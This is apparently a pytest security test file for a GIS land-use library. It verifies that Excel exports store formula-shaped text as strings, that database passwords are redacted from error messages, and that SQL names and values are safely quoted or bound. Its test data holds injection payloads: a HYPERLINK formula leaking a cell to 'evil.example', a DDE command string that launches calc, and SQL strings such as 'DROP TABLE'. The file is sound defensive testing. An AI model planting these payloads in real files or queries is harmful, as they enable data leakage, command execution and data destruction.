"""Data is data at the input/output edges: Excel cells, database URLs, SQL names and values.

(Issue #10, defects 4, 5 and the SQL part of 6; maps and templates are in test_security.py.)
"""

from __future__ import annotations

import uuid

import openpyxl
import pandas as pd
import pytest

import landuse as lu
from landuse import _urls
from landuse.backends import postgis
from tests.conftest import PG_URL, needs_pg

# text that a spreadsheet would run if it were stored as a formula
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=东区",
    "\t=1+1",
    "\n=1+1",
    "bell\x07=1",
]


def all_cells(path):
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_not_formulas(path, payloads):
    cells = all_cells(path)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells in {path.name}: {formulas}"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in payloads:
        shown = payload.replace("\x07", "_x0007_")  # the file format's escape for a control char
        assert shown in texts, f"{payload!r} not stored as text"
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)


def test_write_parcels_xlsx_stores_formula_shaped_text_as_strings(tmp_path, ledger):
    sample = ledger.head(len(FORMULAS)).copy()
    sample["name"] = FORMULAS
    sample["parcel_id"] = [f"={i}+{i}" for i in range(len(sample))]
    sample["=evil_column"] = "=2+2"
    path = lu.write_parcels(sample, tmp_path / "台账.xlsx")
    assert_text_not_formulas(path, [*FORMULAS, "=0+0", "=evil_column", "=2+2"])
    # read back exactly as written (pandas reads string cells as text)
    back = pd.concat(pd.read_excel(path, sheet_name=None).values())
    assert set(back["地块名称"]) == {p.replace("\x07", "_x0007_") for p in FORMULAS}
    assert [p.name for p in tmp_path.iterdir()] == ["台账.xlsx"]


def test_report_workbook_stores_formula_shaped_zone_names_as_strings(tmp_path, ledger, zones):
    pytest.importorskip("matplotlib")
    evil = zones.copy()
    evil["name"] = [f"{FORMULAS[i % 3]}#{i}" for i in range(len(evil))]
    parcels = lu.assign_zones(ledger, evil, how="largest")
    out = lu.report(parcels, evil, out=tmp_path / "report.html", tiles=None, as_of="2022-06-30")
    workbook = out.with_suffix(".xlsx")
    assert_text_not_formulas(workbook, list(evil["name"]))


# --- secrets in database URLs --------------------------------------------------------------

# nothing listens on port 1: connecting fails at once, without a server
DEAD = "127.0.0.1:1"


@pytest.mark.parametrize(
    ("url", "secret"),
    [
        (f"postgresql://u@{DEAD}/db?password=S3cret-in-query", "S3cret-in-query"),
        (f"postgresql://u@{DEAD}/db?sslmode=disable&password=S3cret2", "S3cret2"),
        (f"postgresql://u:S3cret-user-part@{DEAD}/db", "S3cret-user-part"),
        (f"postgresql+psycopg://u:p%40ss%3Aword@{DEAD}/db", "p@ss:word"),
    ],
)
def test_passwords_never_in_connection_errors(url, secret):
    pytest.importorskip("sqlalchemy")
    with pytest.raises(lu.backends.postgis.DatabaseError) as failed:
        lu.read_parcels(url, table="parcels")
    message = str(failed.value)
    assert secret not in message and "S3cret" not in message
    assert "p%40ss" not in message
    assert "***" in message and DEAD in message  # where it failed is still said


def test_a_password_that_is_part_of_the_url_is_hidden_by_structure():
    pytest.importorskip("sqlalchemy")
    url = f"postgresql://admin:postgres@{DEAD}/land"
    with pytest.raises(lu.backends.postgis.DatabaseError) as failed:
        lu.read_parcels(url, table="parcels")
    message = str(failed.value)
    assert "***ql" not in message  # substring replacing would have said "***ql+psycopg://"
    assert f"postgresql+psycopg://admin:***@{DEAD}/land" in message
    assert ":postgres@" not in message


def test_safe_url_hides_user_part_and_query_passwords():
    pytest.importorskip("sqlalchemy")
    assert (
        _urls.safe_url("postgresql://u:postgres@h:5432/db?password=S3cret&sslmode=require")
        == "postgresql://u:***@h:5432/db?password=***&sslmode=require"
    )
    assert _urls.safe_url("postgresql://h/db?PWD=x1&application_name=a") == (
        "postgresql://h/db?PWD=***&application_name=a"
    )
    # a URL SQLAlchemy cannot parse is still redacted by its shape
    broken = _urls.safe_url("postgresql://u:S3cret@h:notaport/db?password=S3cret2")
    assert "S3cret" not in broken and "u:***@h" in broken


def test_an_unparseable_url_is_a_clear_error_without_its_password():
    pytest.importorskip("sqlalchemy")
    with pytest.raises(lu.backends.postgis.DatabaseError) as failed:
        lu.read_parcels("postgresql://u:S3cret@h:notaport/db", table="parcels")
    assert "S3cret" not in str(failed.value)


def test_pgpassword_and_driver_messages_are_redacted(monkeypatch):
    pytest.importorskip("sqlalchemy")
    monkeypatch.setenv("PGPASSWORD", "env-S3cret")
    assert _urls.redact('failed: password=env-S3cret host=h user "u"', ["env-S3cret"]) == (
        'failed: password=*** host=h user "u"'
    )
    # a whole-word occurrence goes; the same letters inside a longer word stay
    assert _urls.redact("postgresql: bad password postgres", ["postgres"]) == (
        "postgresql: bad password ***"
    )


# --- SQL: names and values are data ---------------------------------------------------------

URL = PG_URL


@pytest.fixture
def pg_table(ledger, scratch_table):
    name = scratch_table("sec")
    sample = ledger.head(6).copy()
    sample["name"] = ["x' OR '1'='1", "'; DROP TABLE x; --", "=1+1", None, "正常", 'a"b']
    lu.write_parcels(sample, URL, table=name)
    return name, sample


@needs_pg
@pytest.mark.postgis
def test_injection_shaped_where_values_are_bound_parameters(pg_table):
    name, sample = pg_table
    for value in ["x' OR '1'='1", "'; DROP TABLE x; --", 'a"b']:
        got = lu.read_parcels(URL, table=name, where={"name": value})
        assert got["name"].tolist() == [value]
    assert len(lu.read_parcels(URL, table=name, where={"name": "' OR 1=1 --"})) == 0
    assert len(lu.read_parcels(URL, table=name)) == len(sample)


@needs_pg
@pytest.mark.postgis
def test_injection_shaped_where_keys_are_unknown_columns_not_sql(pg_table):
    name, sample = pg_table
    evil = 'name" = name OR "1'
    with pytest.raises(lu.backends.postgis.UnknownColumnError) as failed:
        lu.read_parcels(URL, table=name, where={evil: "x"})
    assert isinstance(failed.value, lu.MissingColumnError | ValueError)
    assert "parcel_id" in str(failed.value)  # the table's columns are listed
    assert len(lu.read_parcels(URL, table=name)) == len(sample)


@needs_pg
@pytest.mark.postgis
def test_injection_shaped_schema_and_column_names_are_quoted(pg_table, ledger):
    name, _ = pg_table
    with pytest.raises(lu.backends.postgis.DatabaseError, match="no table") as failed:
        lu.read_parcels(URL, table=name, schema='public"; DROP TABLE x; --')
    password = postgis._engine(URL).url.password
    assert password not in str(failed.value)
    odd = ledger.head(3).assign(**{'a"; DROP TABLE t; --': ["v", "w", "x"]})
    other = f"sec_{uuid.uuid4().hex[:10]}"
    try:
        lu.write_parcels(odd, URL, table=other)
        back = lu.read_parcels(URL, table=other)
        assert back['a"; DROP TABLE t; --'].tolist() == ["v", "w", "x"]
    finally:
        import sqlalchemy as sa

        with postgis._engine(URL).begin() as connection:
            connection.execute(sa.text(f'DROP TABLE IF EXISTS "{other}"'))


def test_file_readers_given_a_database_url_do_not_echo_its_password():
    pytest.importorskip("sqlalchemy")
    url = "postgresql://u:S3cret@gis-server/land"
    for reader in (lu.read_raw, lu.read_zones):
        with pytest.raises(lu.InputError) as failed:
            reader(url)
        assert "S3cret" not in str(failed.value) and "u:***@gis-server" in str(failed.value)
